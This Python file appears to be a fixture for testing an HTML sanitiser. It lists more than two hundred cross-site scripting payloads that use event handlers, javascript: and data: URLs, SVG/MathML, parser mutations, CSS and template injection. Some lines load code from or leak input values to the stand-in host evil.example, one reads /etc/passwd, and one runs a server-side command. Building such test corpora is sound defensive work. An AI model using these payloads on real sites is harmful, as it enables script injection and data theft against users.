"""Two hundred and more ways to smuggle a script into a page: in attributes, addresses, SVG, MathML, by mutation, in CSS, in
templates. Each calls `hit()`, which the test defines; none is harmful elsewhere."""

ATTRIBUTES = [
    '<img src=x onerror=hit()>', '<img src=x onerror="hit()">', "<img src=x onerror='hit()'>", '<img/src=x/onerror=hit()>', '<IMG SRC=x ONERROR=hit()>',
    '<body onload=hit()>', '<input autofocus onfocus=hit()>', '<select autofocus onfocus=hit()>', '<textarea autofocus onfocus=hit()>',
    '<details open ontoggle=hit()>', '<video src=x onerror=hit()>', '<audio src=x onerror=hit()>', '<video><source onerror=hit()>',
    '<marquee onstart=hit()>', '<div onpointerover=hit()>x</div>', '<a onmouseover=hit() href=#>x</a>', '<p style="animation:x" onanimationstart=hit()>',
    '" onmouseover="hit()" x="', "' onmouseover='hit()' x='", '" autofocus onfocus="hit()', "' autofocus onfocus='hit()", '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>", '`><img src=x onerror=hit()>', '"/><svg onload=hit()>', '</title><script>hit()</script>',
    '</textarea><script>hit()</script>', '</pre><script>hit()</script>', '</option></select><img src=x onerror=hit()>', '</mark><img src=x onerror=hit()>',
    '--><script>hit()</script><!--', ']]><script>hit()</script>', '<!--><img src=x onerror=hit()>-->', '<![CDATA[<script>hit()</script>]]>',
    '<button popovertarget=x onclick=hit()>x</button><div popover id=x onbeforetoggle=hit()>', '<div contenteditable onfocus=hit() autofocus>',
]
SCRIPTS = [
    '<script>hit()</script>', '<SCRIPT>hit()</SCRIPT>', '<scr<script>ipt>hit()</scr</script>ipt>', '<script src=//evil.example/x.js></script>',
    '<script\n>hit()</script\n>', '<script/x>hit()</script>', '<script type=module>hit()</script>', '<script>/*<!--*/hit()</script>', '<<script>hit()//<</script>',
    '\x00<script>hit()</script>', '<script>hit()', '<noscript><p title="</noscript><img src=x onerror=hit()>">', '&lt;script&gt;hit()&lt;/script&gt;',
    '&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;', '\uff1cscript\uff1ehit()\uff1c/script\uff1e', '\u202e<script>hit()</script>', '%3Cscript%3Ehit()%3C/script%3E',
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>', '<iframe src="javascript:parent.hit()"></iframe>', '<object data="javascript:hit()"></object>',
    '<object data="data:text/html,<script>hit()</script>"></object>', '<embed src="javascript:hit()">', '<base href="javascript:hit()//">', '<link rel=stylesheet href="javascript:hit()">',
    '<meta http-equiv=refresh content="0;url=javascript:hit()">', '<form action="javascript:hit()"><button>x</button></form>', '<button formaction="javascript:hit()">x</button>',
    '<link rel=import href="data:text/html,<script>hit()</script>">', '<frameset onload=hit()>', '<applet code=hit>',
]
ADDRESSES = [
    'javascript:hit()', 'JaVaScRiPt:hit()', ' javascript:hit()', '\tjavascript:hit()', 'java\tscript:hit()', 'java\nscript:hit()', 'javascript\t:hit()', '\x01javascript:hit()',
    'javascript://%0ahit()', 'javascript:/*--></title></style></textarea></script></xmp><svg/onload=hit()>', 'vbscript:hit()', 'data:text/html,<script>hit()</script>',
    'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=hit()>', 'view-source:javascript:hit()', 'feed:javascript:hit()', 'jar:javascript:hit()!',
    'https://evil.example/"onmouseover="hit()', "https://evil.example/'onmouseover='hit()", 'https://evil.example/"><script>hit()</script>', '//evil.example/x.js',
    '&#106;avascript:hit()', '&#x6A;avascript:hit()', 'javascript&colon;hit()', '<a href="javascript:hit()">x</a>', '<a href="&#106;avascript:hit()">x</a>',
    '<a href=java&Tab;script:hit()>x</a>', '<a href=" javascript:hit()">x</a>', '<a href="data:text/html,<script>hit()</script>">x</a>', '[x](javascript:hit())',
    '![x](javascript:hit())', '[x](<javascript:hit()>)', '<javascript:hit()>', '[x]: javascript:hit()', '[x](data:text/html,<script>hit()</script>)',
    '<img src="javascript:hit()">', '<img srcset="x 1x, javascript:hit() 2x">', '<area href="javascript:hit()">', '<a ping="javascript:hit()" href=#>x</a>', '<a target=_blank href="//evil.example">x</a>',
]
VECTORS = [
    '<svg onload=hit()>', '<svg/onload=hit()>', '<svg><script>hit()</script></svg>', '<svg><script href="data:,hit()"/></svg>', '<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>',
    '<svg><animate onbegin=hit() attributeName=x dur=1s>', '<svg><set attributeName=onload to=hit()>', '<svg><a><animate attributeName=href values="javascript:hit()"/><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x"/></svg>', '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"/></foreignObject></svg>',
    '<svg><image href=x onerror=hit()>', '<svg><discard onbegin=hit()>', '<svg><style>@import "javascript:hit()"</style></svg>', '<svg xmlns="http://www.w3.org/2000/svg"><script>hit()</script></svg>',
    '<svg><desc><![CDATA[</desc><script>hit()</script>]]></svg>', '<svg><title><img src=x onerror=hit()></title></svg>', '<svg><handler type="text/javascript">hit()</handler></svg>',
    '<math><a xlink:href="javascript:hit()">x</a></math>', '<math href="javascript:hit()">x</math>', '<math><maction actiontype="statusline#javascript:hit()" xlink:href="javascript:hit()">x</maction></math>',
    '<math><mtext><img src=x onerror=hit()></mtext></math>', '<math><annotation-xml encoding="text/html"><script>hit()</script></annotation-xml></math>', '<math><mi//xlink:href="data:x,<script>hit()</script>">',
    '<math><annotation-xml encoding="application/xhtml+xml"><svg onload=hit()></annotation-xml></math>', '<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=hit()>',
]
MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">', '<svg></p><style><a title="</style><img src=x onerror=hit()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>', '<noscript><style></noscript><img src=x onerror=hit()>', '<xmp><p title="</xmp><img src=x onerror=hit()>">',
    '<listing>&lt;img src=x onerror=hit()&gt;</listing>', '<plaintext><img src=x onerror=hit()>', '<noembed><p title="</noembed><img src=x onerror=hit()>">', '<noframes><p title="</noframes><img src=x onerror=hit()>">',
    '<iframe><p title="</iframe><img src=x onerror=hit()>">', '<textarea><p title="</textarea><img src=x onerror=hit()>">', '<title><p title="</title><img src=x onerror=hit()>">',
    '<style><p title="</style><img src=x onerror=hit()>">', '<svg><style>&lt;img src=x onerror=hit()&gt;</style></svg>', '<math><style>&lt;img src=x onerror=hit()&gt;</style></math>',
    '<table><td><svg><tr><img src=x onerror=hit()>', '<select><template><img src=x onerror=hit()></template></select>', '<select><style><img src=x onerror=hit()></style></select>',
    '<a href="x`<img src=x onerror=hit()>">', '<img alt="``onerror=hit()" src=x>', '<p id="&quot;><img src=x onerror=hit()>">x</p>', '<br =`><img src=x onerror=hit()>', '<svg><![CDATA[><img src=x onerror=hit()>]]>',
    '<?xml-stylesheet href="javascript:hit()"?>', '<?<img src=x onerror=hit()>', '<!DOCTYPE x [<!ENTITY e "<script>hit()</script>">]>&e;', '</ <img src=x onerror=hit()>', '<%<img src=x onerror=hit()>%>',
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=hit()>">', '<math><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=hit()>">',
]
STYLES = [
    '<style>*{background:url(javascript:hit())}</style>', '<style>@import "//evil.example/x.css";</style>', '<div style="background:url(javascript:hit())">x</div>', '<div style="width:expression(hit())">x</div>',
    '<div style="-moz-binding:url(//evil.example/x#x)">x</div>', '<div style="behavior:url(x.htc)">x</div>', '</style><script>hit()</script>', '<link rel=stylesheet href=//evil.example/x.css>', "<p style=\"x:'\\22><img src=x onerror=hit()>'\">",
    '<style>body{-o-link:"javascript:hit()"}</style>', '<div style="list-style:url(javascript:hit())">x</div>', '<xss style="behavior:url(#default#time2)" onbegin=hit()>', '<style onload=hit()></style>', '<link rel=stylesheet href=x onerror=hit()>',
    '<div style="position:fixed;inset:0;z-index:9999">x</div>', '<style>input[value^=a]{background:url(//evil.example/a)}</style>', '@import url(javascript:hit());', 'expression(hit())', '*/ } body { background: url(javascript:hit()) } /*',
]
TEMPLATES = [
    '{{ 7*7 }}', '{{constructor.constructor("hit()")()}}', '{% raw %}<script>hit()</script>{% endraw %}', '${hit()}', '#{hit()}', '<%= hit() %>', '{{=<% %>=}}<%{hit()}%>', '*{hit()}', '[[${hit()}]]',
    '{{{<script>hit()</script>}}}', '{{"<script>hit()</script>"|safe}}', '<template><script>hit()</script></template>', '<template shadowrootmode=open><img src=x onerror=hit()></template>', '<div v-html="hit()" x-data x-init="hit()" ng-app ng-init="hit()">x</div>',
    '<div hx-on:load="hit()" hx-trigger=load>x</div>', '`${hit()}`', '<slot onslotchange=hit()>x</slot>', '__proto__[innerHTML]=<img src=x onerror=hit()>', '<x is="x-hit" onclick=hit()>x</x>', '{%include "/etc/passwd"%}', '<!--#exec cmd="id" -->', '<?php hit() ?>',
]

ALL = ATTRIBUTES + SCRIPTS + ADDRESSES + VECTORS + MUTATIONS + STYLES + TEMPLATES
assert len(set(ALL)) == len(ALL) >= 200, len(set(ALL))
